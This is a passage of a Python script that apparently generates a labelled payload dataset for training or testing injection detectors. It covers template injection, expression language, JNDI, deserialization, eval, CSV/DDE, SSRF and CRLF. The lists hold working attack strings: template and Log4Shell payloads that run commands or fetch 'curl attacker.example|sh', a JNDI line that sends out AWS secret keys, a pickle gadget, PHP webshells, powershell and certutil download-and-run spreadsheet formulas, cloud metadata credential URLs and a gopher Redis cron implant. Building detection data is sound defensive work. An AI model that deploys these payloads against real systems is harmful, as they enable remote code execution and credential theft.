    if t == 2:
        return "dotdot+urlenc", pick(TRAV_PREFIX) + "..%2f" * depth + tgt.replace("/", "%2f")
    if t == 3:
        return "nested-strip", pick(TRAV_PREFIX) + "....//" * depth + tgt
    if t == 4:
        return "null-byte", "../" * depth + tgt + "%00" + pick(FILE_NAMES)
    lang = pick(["de-DE", "fr", "ja", "pt-BR", "en-GB", "es-419"])
    return "dotdot", lang + "/" + "../" * depth + tgt


# ===========================================================================
# Code injection: templates, expression languages, JNDI, deserialization, eval
# ===========================================================================

PHP_OBJ = 'O:11:"ReportCache":2:{%s%s%s%s}' % (
    php_str("path"), php_str("/var/www/html/uploads/x.php"), php_str("data"), php_str("<?php system($_GET['c']); ?>"))
PHP_OBJ2 = 'a:1:{i:0;O:13:"MailTransport":1:{%s%s}}' % (
    php_str("sendmailArgs"), php_str("-X/var/www/html/log.php -OQueueDirectory=/tmp"))
PICKLE = base64.b64encode(b"cposix\nsystem\n(S'curl -s http://attacker.example/p.sh|sh'\ntR.").decode()

CODE = [
    ("ssti-jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2", "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("ssti-jinja2", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-jinja2", "{{ lipsum.__globals__['os'].popen('curl -s http://attacker.example/x|sh').read() }}"),
    ("ssti-jinja2+hex-escapes", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja2", "{{ config.items() }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('curl http://attacker.example/t') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
    ("ssti-velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"curl http://attacker.example/v\")"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl -s http://203.0.113.15/r|bash') %>"),
    ("ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\o.txt\")"),
    ("ssti-tornado", "{% import os %}{{ os.popen(\"id\").read() }}"),
    ("python-format-string", "{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("ssi", "<!--#exec cmd=\"id\" -->"),
    ("ssi", "<!--#include virtual=\"/etc/passwd\" -->"),
    ("esi", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("spel", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}"),
    ("spel", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','curl attacker.example|sh'})}"),
    ("el", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl", "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("mvel", "@{Runtime.getRuntime().exec(\"id\")}"),
    ("jndi", "${jndi:ldap://attacker.example:1389/a}"),
    ("jndi", "${jndi:rmi://203.0.113.8:1099/Obj}"),
    ("jndi", "${jndi:dns://attacker.example/x}"),
    ("jndi+lower-lookup", "${${lower:j}ndi:${lower:l}dap://attacker.example/o}"),
    ("jndi+default-value", "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.8/x}"),
    ("jndi+env-default", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/e}"),
    ("jndi-exfil-env", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/k}"),
    ("jndi+upper-lookup", "${${upper:j}ndi:ldaps://attacker.example/z}"),
    ("jndi+lower-lookup", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/p}"),
    ("jndi+urlenc", urlenc("${jndi:ldap://203.0.113.8:1389/u}")),
    ("deser-yaml-python", "!!python/object/apply:os.system [\"curl http://attacker.example/y|sh\"]"),
    ("deser-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("deser-fastjson", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}"),
    ("deser-jackson", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"rmi://203.0.113.8:1099/x\",\"autoCommit\":true}]"),
    ("deser-jsonnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c curl http://attacker.example/n\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deser-php", PHP_OBJ),
    ("deser-php", PHP_OBJ2),
    ("deser-pickle+base64", PICKLE),
    ("deser-node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id',function(e,o){})}()\"}"),
    ("deser-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"2\"><void index=\"0\"><string>touch</string></void><void index=\"1\"><string>/tmp/x</string></void></array><void method=\"start\"/></object></java>"),
    ("php-eval", "<?php system($_GET['c']); ?>"),
    ("php-eval", "';system('id');//"),
    ("php-eval", "{${system('id')}}"),
    ("node-eval", "require('child_process').execSync('id').toString()"),
    ("node-eval", "');require('child_process').exec('curl attacker.example|sh');//"),
    ("node-eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("python-eval", "__import__('os').system('id')"),
    ("python-eval", "\"+__import__('subprocess').getoutput('id')+\""),
    ("python-eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("ruby-eval", "#{`id`}"),
    ("ruby-eval", "\"; system('id'); \""),
    ("prototype-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prototype-pollution", "{\"constructor\":{\"prototype\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}}"),
    ("prototype-pollution", "__proto__[role]=admin"),
    ("csv-injection-dde", "=cmd|' /C powershell -w hidden iwr attacker.example/a.ps1|iex'!A1"),
    ("csv-injection-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-injection-dde", "+cmd|'/c notepad'!A1"),
    ("csv-injection-exfil", "=IMPORTXML(CONCAT(\"http://attacker.example/?leak=\",A2,B2,C2),\"//a\")"),
    ("csv-injection-exfil", "=HYPERLINK(\"https://attacker.example/track?d=\"&ENCODEURL(Salaries!B2:B50),\"Click to refresh data\")"),
    ("angular-template", "{{$on.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
]

SSTI_CTX = ["{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${7*7}${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<%= `whoami` %>", "{{ ['id']|filter('system') }}", "${jndi:ldap://attacker.example/t}",
            "#{global.process.mainModule.require('child_process').execSync('id')}",
            "{{constructor.constructor('alert(document.cookie)')()}}", "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
            "${${lower:j}ndi:ldap://203.0.113.8/c}", "{{ lipsum.__globals__.os.popen('cat /etc/passwd').read() }}",
            "<!--#exec cmd=\"cat /etc/passwd\" -->"]
SSTI_CTX_TECH = ["ssti-jinja2", "spel", "ssti-erb", "ssti-twig", "jndi", "ssti-pug", "angular-template",
                 "ssti-freemarker", "jndi+lower-lookup", "ssti-jinja2", "ssi"]
CODE_SENT = ["Hi {p}, thanks for your order", "Ticket subject: {p} — please escalate",
             "Customer name on the contract: {p}", "Signature: Best, Anna {p}"]
DDE_FORMS = ["=cmd|' /C {c}'!A{n}", "+cmd|' /C {c}'!A{n}", "-1+cmd|' /C {c}'!A0", "@SUM(1)*cmd|' /C {c}'!A0",
             "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c {c}'!''"]
DDE_CMDS = ["calc", "powershell -w hidden -c iwr http://203.0.113.3/p.ps1|iex", "mshta http://attacker.example/x.hta",
            "certutil -urlcache -f http://attacker.example/b.exe %TEMP%\\b.exe&%TEMP%\\b.exe",
            "rundll32 \\\\203.0.113.20\\s\\x.dll,Start", "curl -o %TEMP%\\u.bat http://attacker.example/u.bat&%TEMP%\\u.bat"]
EXFIL_FORMS = ["=IMPORTDATA(\"http://attacker.example/c?v=\"&{a}&\"&w=\"&{b})",
               "=WEBSERVICE(\"http://attacker.example/?d=\"&ENCODEURL({a}&\"|\"&{b}))",
               "=IMAGE(\"https://attacker.example/p.png?x=\"&{a})"]


def gen_code():
    t = rng.randrange(4)
    if t == 3:
        if rng.randrange(3):
            return "csv-injection-dde", pick(DDE_FORMS).format(c=pick(DDE_CMDS), n=rng.randrange(0, 60))
        cell = lambda: "%s%d" % (pick("ABCDEFGH"), rng.randrange(2, 200))
        return "csv-injection-exfil", pick(EXFIL_FORMS).format(a=cell(), b=cell())
    i = rng.randrange(len(SSTI_CTX))
    p, tech = SSTI_CTX[i], SSTI_CTX_TECH[i]
    if t == 0:
        v = pick(UI_STRINGS) + " " + p
    elif t == 1:
        v = pick(TICKET_TITLES + CRM_NAMES) + " " + p
    else:
        v = pick(CODE_SENT).format(p=p)
    if rng.randrange(6) == 0:
        return tech + "+urlenc", urlenc_soft(v)
    return tech, v


# ===========================================================================
# SSRF and CRLF / header injection
# ===========================================================================

GOPHER_REDIS = "gopher://127.0.0.1:6379/_" + quote(
    "SET x \"\\n* * * * * curl -s http://attacker.example/c|sh\\n\"\r\nCONFIG SET dir /var/spool/cron\r\n"
    "CONFIG SET dbfilename root\r\nSAVE\r\n", safe="")
GOPHER_SMTP = "gopher://127.0.0.1:25/_" + quote(
    "HELO x\r\nMAIL FROM:<it@example.com>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Password reset\r\n\r\n"
    "Reset here: http://attacker.example/r\r\n.\r\nQUIT\r\n", safe="")

SSRF = [
    ("ssrf-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf-metadata-aws", "http://169.254.169.254/latest/user-data"),
    ("ssrf-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("ssrf-metadata-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("ssrf-metadata-aws+ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf-internal-service", "http://127.0.0.1:8500/v1/agent/self"),
    ("ssrf-internal-service", "http://localhost:2375/containers/json"),
    ("ssrf-internal-service", "http://127.0.0.1:9200/_cat/indices?v"),
    ("ssrf-gopher-redis", GOPHER_REDIS),
    ("ssrf-gopher-smtp", GOPHER_SMTP),
    ("ssrf-localhost+hex-ip", "http://0x7f000001/admin"),
    ("ssrf-localhost+decimal-ip", "http://2130706433/"),
    ("ssrf-localhost+octal-ip", "http://017700000001:8080/actuator/env"),
    ("ssrf-localhost+short-ip", "http://127.1/server-status"),
    ("ssrf-localhost+zero-ip", "http://0/"),
    ("ssrf-localhost+ipv6-mapped", "http://[::ffff:127.0.0.1]/admin"),
    ("ssrf-localhost+ipv6", "http://[::]:22/"),
    ("ssrf-dns-rebinding", "http://a9fea9fe.rebind.attacker.example/latest/meta-data/"),
    ("ssrf-metadata-aws+userinfo", "http://attacker.example@169.254.169.254/latest/meta-data/"),
    ("ssrf-metadata-aws+fragment-confusion", "http://169.254.169.254#@attacker.example/"),
    ("ssrf-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("ssrf-file-scheme", "file:///proc/self/environ"),
    ("ssrf-dict", "dict://127.0.0.1:11211/stats"),
    ("ssrf-internal-service", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("ssrf-internal-service", "https://10.0.0.1:10250/pods"),
    ("ssrf-metadata-aws+ipv6-mapped", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("ssrf-localhost+enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①/admin"),
    ("ssrf-metadata-aws+urlenc", "http://169%2e254%2e169%2e254/latest/meta-data/"),
    ("ssrf-metadata-aws+octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("ssrf-metadata-aws+hex-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/"),
    ("ssrf-metadata-aws+decimal-ip", "http://2852039166/latest/meta-data/"),
    ("ssrf-xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]><r>&x;</r>"),
    ("ssrf-svg-image", "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"http://127.0.0.1:8080/admin\" width=\"100\" height=\"100\"/></svg>"),
    ("ssrf-html-renderer", "<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=\"800\" height=\"600\"></iframe>"),
    ("ssrf-html-renderer", "<link rel=\"attachment\" href=\"file:///etc/passwd\">"),
    ("ssrf-metadata-aws+hostname-alias", "http://instance-data/latest/meta-data/iam/info"),
    ("crlf-set-cookie+urlenc", "%0d%0aSet-Cookie:%20session=attacker"),
    ("crlf-location+urlenc", "/%0D%0ALocation:%20https://attacker.example/"),
    ("crlf-response-splitting+urlenc", "foo%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("crlf-set-cookie+utf8-crlf", "%E5%98%8A%E5%98%8DSet-Cookie:%20sid=attacker"),
    ("crlf-header-injection", "en-US\r\nX-Forwarded-Host: attacker.example"),
    ("crlf-email-header", "ana@example.com\r\nBcc: list@attacker.example"),
    ("crlf-email-header", "Support Team\nCc: victim@example.org\nSubject: Urgent: verify your account"),
    ("crlf-email-header+urlenc", "test%0ACc:recipient@attacker.example%0ASubject:Invoice%20overdue"),
    ("crlf-log-injection", "login ok\n2025-03-12 09:00:00 INFO user=admin action=grant_role role=superuser result=success"),
    ("crlf-smtp", "x@example.com>\r\nRCPT TO:<victim@attacker.example"),
    ("crlf-response-splitting+urlenc", "%0d%0a%0d%0a<html><body><form action=https://attacker.example/l>Session expired, log in again</form></body></html>"),
    ("crlf-redis+urlenc", "key%0D%0ACONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0A"),
    ("crlf-request-smuggling", "\r\n\r\nGET /admin HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
    ("crlf-set-cookie+double-urlenc", "%250d%250aSet-Cookie:%2520admin=true"),
    ("crlf-internal-redirect+urlenc", "%0aX-Accel-Redirect:%20/internal/secrets"),
    ("crlf-set-cookie+unicode-crlf", "嘍嘊Set-Cookie: role=admin"),
]

SSRF_URLS = ["http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:8080/admin", "http://localhost:6379/",
             "http://10.0.0.5:9000/minio/admin/v3/info", "http://[::1]:5000/internal/debug",
             "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token", "http://0.0.0.0:8983/solr/admin/cores",
             "http://192.168.0.1/cgi-bin/luci", "http://169.254.170.2/v2/metadata", "http://localhost:15672/api/users"]
SSRF_URL_TECH = ["ssrf-metadata-aws", "ssrf-localhost", "ssrf-internal-service", "ssrf-internal-service", "ssrf-localhost",
                 "ssrf-metadata-gcp", "ssrf-localhost", "ssrf-internal-service", "ssrf-metadata-ecs", "ssrf-internal-service"]
SSRF_SENT = ["Please import the spreadsheet from {u} for the Q3 report", "Webhook URL: {u}",
             "Our logo is at {u} — can you use it as the avatar?", "=IMPORTXML(\"{u}\",\"//*\")",
             "Sync calendar from {u}", "Add this RSS feed to the team channel: {u}"]
CRLF_CTX = ["%0d%0aSet-Cookie:%20tenant=attacker", "\r\nBcc: all-staff@attacker.example", "%0aLocation:%20https://attacker.example/",
            "\r\nX-Forwarded-For: 127.0.0.1", "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<svg onload=alert(1)>"]
CRLF_CTX_TECH = ["crlf-set-cookie+urlenc", "crlf-email-header", "crlf-location+urlenc", "crlf-header-injection",
                 "crlf-response-splitting+urlenc"]


def gen_ssrf():
    t = rng.randrange(3)
    if t < 2:
        i = rng.randrange(len(SSRF_URLS))
        return SSRF_URL_TECH[i], pick(SSRF_SENT).format(u=SSRF_URLS[i])
    i = rng.randrange(len(CRLF_CTX))
    base = pick(["report.pdf", "en-GB", "ana@example.com", "/dashboard", "Q3 Planning", "Priya Raman", "de-DE"])
    return CRLF_CTX_TECH[i], base + CRLF_CTX[i]


# ===========================================================================

def main():
    add_base("sqli", SQLI)
    fill("sqli", 84, gen_sqli)
    add_base("xss", XSS)
    fill("xss", 82, gen_xss)
    add_base("cmdi", CMDI)
    fill("cmdi", 82, gen_cmdi)
    add_base("traversal", TRAV)
    fill("traversal", 72, gen_trav)
    add_base("code", CODE)
    fill("code", 90, gen_code)
    add_base("ssrf-crlf", SSRF)
    fill("ssrf-crlf", 64, gen_ssrf)
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(ROWS, 1):
            rec = {"id": "ha16-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(rec, ensure_ascii=False) + "\n")
    print("wrote %d values to %s" % (len(ROWS), OUT))


if __name__ == "__main__":
    main()
